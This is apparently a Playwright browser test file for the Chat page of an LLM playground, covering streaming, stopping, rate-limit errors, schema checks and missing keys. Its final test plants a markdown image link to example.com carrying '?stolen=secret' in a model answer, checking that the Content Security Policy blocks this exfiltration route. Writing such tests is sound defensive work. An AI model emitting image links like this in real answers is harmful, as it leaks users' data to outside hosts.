"""A journey through the Chat page in a real browser: without a key, and with a provider that is a replay server."""

import re
from collections.abc import Callable
from typing import Any
from urllib.parse import parse_qs, urlsplit

import pytest
from playwright.sync_api import Page, expect

from tests.browser.conftest import App, Shot, ask, settled
from tests.replay import Answer, ReplayServer, event

Visit = Callable[..., Page]
CHAT = "/v1/chat/completions"
STORY = "Once upon a time there was a cache that never forgot and never lied to anybody about it."


def chunk(delta: dict[str, Any], finish: str | None = None) -> bytes:
    return event(
        {"id": "c1", "object": "chat.completion.chunk", "choices": [{"delta": delta, "finish_reason": finish}]}
    )


def story(*, thought: str = "", **timing: Any) -> Answer:
    usage = event({"id": "c1", "choices": [], "usage": {"prompt_tokens": 7, "completion_tokens": 19}})
    thoughts = [chunk({"reasoning_content": f"{word} "}) for word in thought.split()]
    words = [chunk({"content": f"{word} "}) for word in STORY.split()]
    return Answer.stream([*thoughts, *words, chunk({}, "stop"), usage, event("[DONE]")], **timing)


@pytest.fixture
def clouded(cloud: tuple[App, ReplayServer], visit: Visit) -> Callable[..., tuple[Page, ReplayServer, App]]:
    """Opens the Chat page on a model of the replay server, which plays these answers."""
    app, replay = cloud

    def open_page(*answers: Answer) -> tuple[Page, ReplayServer, App]:
        replay.on("POST", CHAT, *answers)
        return visit(f"{app.url}/?chat_provider=OpenAI&chat_model=gpt-4.1"), replay, app

    return open_page


def query(address: str) -> dict[str, list[str]]:
    return parse_qs(urlsplit(address).query)


def test_a_newcomer_asks_without_a_key(app: App, visit: Visit, shot: Shot) -> None:
    page = visit(app.url)
    expect(page.get_by_text("Start without a key")).to_be_visible()
    shot(page, "chat-empty")
    page.get_by_text("Ask the handbook").click()
    expect(page.get_by_text("not cached")).to_be_visible()
    expect(page.get_by_text("menu_book Sources")).to_be_visible()
    strip = page.locator(".st-key-chat_preflight")
    expect(strip).to_contain_text("tokens in before your words · free · cache: off")
    page.get_by_test_id("stChatInputTextArea").fill("And what are tokens per second?")
    expect(strip).to_contain_text("tokens in · free")  # what is typed is read where the typing pauses
    ask(page, "And what are tokens per second?")
    expect(page.get_by_text("not cached")).to_have_count(2)
    shot(page, "chat-done")
    address = page.url
    assert re.search(r"[?&]run=run_", address)
    page.reload()
    settled(page)
    expect(page.get_by_text("not cached")).to_have_count(2)
    expect(page.get_by_text("And what are tokens per second?")).to_be_visible()
    page.get_by_role("link", name="Runs", exact=True).click()
    settled(page)
    page.get_by_role("link", name="Chat", exact=True).click()
    settled(page)
    expect(page.get_by_text("And what are tokens per second?")).to_be_visible()
    assert query(page.url) == query(address), "the conversation comes back with its address"
    page.get_by_role("link", name="Runs", exact=True).click()
    expect(page).to_have_title(re.compile("Runs"))
    settled(page)
    page.go_back()
    expect(page).to_have_title(re.compile("Chat"))
    expect(page.get_by_role("combobox", name="Model")).to_have_value("handbook")
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_enabled()
    page.get_by_role("button", name="New chat").click()
    expect(page.get_by_text("Start without a key")).to_be_visible()


def test_the_exact_request_is_shown_in_each_form(app: App, visit: Visit, shot: Shot) -> None:
    page = visit(app.url)
    page.get_by_text("Ask the handbook").click()
    page.get_by_role("button", name="Request", exact=True).click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_contain_text(f"curl {app.url}/v1/inference")
    expect(dialog).to_contain_text("$PLAYGROUND_API_KEY")
    shot(page, "chat-request")
    dialog.get_by_role("tab", name="Python").click()
    expect(dialog.get_by_role("tabpanel").filter(has_text="import httpx")).to_be_visible()
    dialog.get_by_role("tab", name="On the wire").click()
    expect(dialog.get_by_text("runs inside the playground")).to_be_visible()


def test_streaming_survives_clicks_and_a_reload_and_a_second_viewer(clouded: Any, visit: Visit, shot: Shot) -> None:
    page, replay, _ = clouded(story(thought="I should begin at the beginning.", delay=0.25, wait=1.0))
    ask(page, "Tell me a story")
    expect(page.get_by_text("Waiting for the first token")).to_be_visible()
    shot(page, "chat-waiting")
    expect(page.get_by_text(re.compile(r"~\d+ tokens"))).to_be_visible()
    expect(page.get_by_text("Once upon a")).to_be_visible()
    shot(page, "chat-streaming")
    page.get_by_role("button", name="Parameters").click()
    expect(page.get_by_text("Temperature")).to_be_visible()
    page.keyboard.press("Escape")
    second = visit(page.url)
    expect(second.get_by_text("Once upon a")).to_be_visible()
    page.reload()
    for viewer in (page, second):
        expect(viewer.get_by_text(STORY)).to_be_visible()
        expect(viewer.get_by_text("7 in")).to_be_visible()
        expect(viewer.get_by_text("Reasoning")).to_be_visible()
        expect(viewer.get_by_text("I should begin")).not_to_be_visible()
    assert len([each for each in replay.requests if each.path == CHAT]) == 1, "asked once, watched three times"


def test_stop_keeps_what_had_arrived(clouded: Any, shot: Shot) -> None:
    page, replay, _ = clouded(story(delay=0.2))
    ask(page, "Tell me a story")
    expect(page.get_by_text("Once upon a")).to_be_visible()
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("You stopped this answer")).to_be_visible()
    expect(page.get_by_text("Once upon a")).to_be_visible()
    assert replay.hung_up.wait(5)
    shot(page, "chat-stopped")
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_enabled()


def test_a_failure_loses_nothing(clouded: Any, shot: Shot) -> None:
    refused = Answer.golden("errors/openai-rate.json", 429, {"retry-after": "20"})
    page, _, app = clouded(refused, refused, refused, story())
    for count, question in enumerate(("Tell me a tale", "Tell me anything", "Tell me a story"), start=1):
        ask(page, question)
        expect(page.get_by_text("The rate limit is reached")).to_have_count(count)
    expect(page.get_by_text("Tell me a story")).to_be_in_viewport()  # its run had ended before it was drawn
    expect(page.get_by_text("The rate limit is reached").last).to_be_in_viewport()
    shot(page, "chat-failed")
    page.get_by_role("button", name="Raw error").last.click()
    expect(page.get_by_text('"TooManyRequestsError"')).to_be_visible()
    page.keyboard.press("Escape")
    page.get_by_role("button", name="Try again").click()
    expect(page.get_by_text(STORY)).to_be_visible()
    expect(page.get_by_text("The rate limit is reached")).to_have_count(2)
    assert "sk-browser" not in app.log.read_text()


@pytest.mark.parametrize(
    ("answer", "verdict"),
    [('{"name": "A", "email": "b", "topics": []}', "Matches the schema"), ('{"name": 1}', "Does not match the schema")],
    ids=["valid", "invalid"],
)
def test_structured_output_is_checked(clouded: Any, shot: Shot, answer: str, verdict: str) -> None:
    ending = [chunk({}, "stop"), event("[DONE]")]
    page, _, _ = clouded(Answer.stream([chunk({"content": answer}), *ending]))
    page.get_by_role("button", name="Schema").click()
    page.get_by_role("button", name="Contact").click()
    expect(page.get_by_text("A valid schema")).to_be_visible()
    shot(page, "chat-schema")
    page.keyboard.press("Escape")
    ask(page, "Who is it?")
    expect(page.get_by_text(verdict)).to_be_visible()
    shot(page, f"chat-schema-{'valid' if verdict.startswith('Matches') else 'invalid'}")


def test_a_model_id_can_be_typed(clouded: Any) -> None:
    page, replay, _ = clouded(story())
    box = page.locator(".st-key-chat_model input")
    box.click()
    box.fill("ft:gpt-4.1:acme::Zz9")
    box.press("Enter")
    expect(page.get_by_text("Not in the catalogue")).to_be_visible()
    ask(page, "Hello")
    expect(page.get_by_text(STORY)).to_be_visible()
    assert [each.json["model"] for each in replay.requests if each.path == CHAT] == ["ft:gpt-4.1:acme::Zz9"]


def test_a_provider_without_a_key_says_what_to_do(app: App, visit: Visit, shot: Shot) -> None:
    page = visit(f"{app.url}/?chat_provider=Anthropic")
    expect(page.get_by_text("ANTHROPIC_API_KEY").first).to_be_visible()
    expect(page.get_by_test_id("stChatInputTextArea")).to_be_disabled()
    shot(page, "chat-no-key")


def test_an_answer_cannot_make_the_browser_call_out(cloud: tuple[App, ReplayServer], browser: Any) -> None:
    app, replay = cloud
    picture = "![x](https://example.com/?stolen=secret)"
    replay.on("POST", CHAT, Answer.stream([chunk({"content": f"Look: {picture} done"}), chunk({}, "stop")]))
    context = browser.new_context()
    page, abroad = context.new_page(), []
    page.on("requestfinished", lambda request: abroad.append(request.url) if "example.com" in request.url else None)
    page.goto(f"{app.url}/?chat_provider=OpenAI&chat_model=gpt-4.1")
    settled(page)
    blocked = []
    page.on(
        "console", lambda message: blocked.append(message.text) if "Content Security Policy" in message.text else None
    )
    ask(page, "A picture?")
    expect(page.get_by_text("not cached")).to_be_visible()
    page.wait_for_timeout(500)
    context.close()
    assert not abroad
    assert blocked, "the browser was told to refuse"
